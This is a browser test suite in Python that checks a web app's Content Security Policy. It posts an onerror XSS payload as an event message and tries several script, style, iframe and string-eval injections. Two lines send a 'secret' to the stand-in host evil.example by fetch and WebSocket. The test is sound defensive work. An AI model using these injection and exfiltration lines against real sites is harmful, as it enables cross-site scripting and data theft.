"""The page under its policy of content, in a real browser: all of it works, and nothing else."""

from __future__ import annotations

from typing import Any

import httpx
import pytest
from selenium.webdriver import Chrome

from support.live import Live
from support.live_page import LivePage
from support.waiting import wait_until_blocking

#: Keeps what the browser refuses in a page, from before its first script on.
_LISTEN = """
window.refused = [];
addEventListener("securitypolicyviolation", ({effectiveDirective, blockedURI, sample}) =>
  window.refused.push([effectiveDirective, blockedURI, sample]));
"""


@pytest.fixture
def listening(browser: Chrome) -> Chrome:
    """A tab that keeps what its pages' policies refuse."""
    browser.execute_cdp_cmd("Page.addScriptToEvaluateOnNewDocument", {"source": _LISTEN})
    return browser


def refused(browser: Chrome) -> list[Any]:
    found: list[Any] = browser.execute_script("return window.refused")
    return found


@pytest.mark.parametrize("transport", ["sse", "websocket"])
def test_the_page_does_nothing_that_its_policy_refuses(
    listening: Chrome, everything: str, project: str, transport: str
) -> None:
    """Streams, jobs, their bars and videos, earlier events, a cut, and a text that is markup."""
    fields = {"type": "note", "message": "<img src=x onerror=document.title='ran'>"}
    posted = httpx.post(f"{everything}/api/v1/projects/{project}/events", json=fields)
    assert posted.status_code == 201
    page = LivePage(listening, everything, project)
    page.use(transport)
    page.wait_until_live()
    page.start()
    page.wait_for_job("completed")
    wait_until_blocking(
        lambda: page.run("return document.querySelector('.job video').readyState") >= 1,
        "the result never became playable",
    )
    page.open(f"projects/{project}")
    wait_until_blocking(lambda: "earlier event" in page.text("earlier-said"), "nothing was loaded")
    page.choose("log", "raw")
    page.cut()
    page.wait_for_state("Connection cut")
    page.wait_until_live()
    assert refused(listening) == []
    assert "ran" not in listening.title


def test_the_reference_does_nothing_that_its_policy_refuses(
    listening: Chrome, live_server: Live
) -> None:
    listening.get(f"{live_server.url}/schema")
    assert refused(listening) == []
    # Its one style applies.
    assert listening.execute_script("return getComputedStyle(document.body).margin") == "0px"


@pytest.mark.parametrize(
    ("attempt", "directive"),
    [
        (
            "const s = document.createElement('script'); s.text = 'window.ran = 1'",
            "require-trusted-types-for",
        ),
        ("const s = document.createElement('img'); s.src = 'https://evil.example/'", "img-src"),
        (
            "const s = document.createElement('iframe'); s.src = location.href",
            "frame-src",
        ),
        ("const s = document.createElement('style'); s.textContent = '*{top:0}'", "style-src"),
        (
            "const s = document.createElement('object'); s.data = '/healthz'",
            "require-trusted-types-for",
        ),
        ("fetch('https://evil.example/?secret')", "connect-src"),
        ("new WebSocket('wss://evil.example/?secret')", "connect-src"),
        ("document.body.insertAdjacentHTML('beforeend', '<b>x</b>')", "require-trusted-types-for"),
        ("setTimeout('window.ran = 1')", "require-trusted-types-for"),
    ],
)
def test_what_found_its_way_into_the_page_neither_runs_nor_calls_home(
    listening: Chrome, live_server: Live, project: str, attempt: str, directive: str
) -> None:
    """And the listener of these tests hears it."""
    LivePage(listening, live_server.url, project)
    listening.execute_script(
        f"try {{ {attempt}; if (typeof s !== 'undefined') document.body.append(s); }} catch {{}}"
    )
    wait_until_blocking(lambda: bool(refused(listening)), "nothing was refused")
    assert refused(listening)[0][0].startswith(directive)
    assert listening.execute_script("return window.ran") is None
    # What a browser says of what it refuses is what was asked for here.
    listening.get_log("browser")  # type: ignore[no-untyped-call]
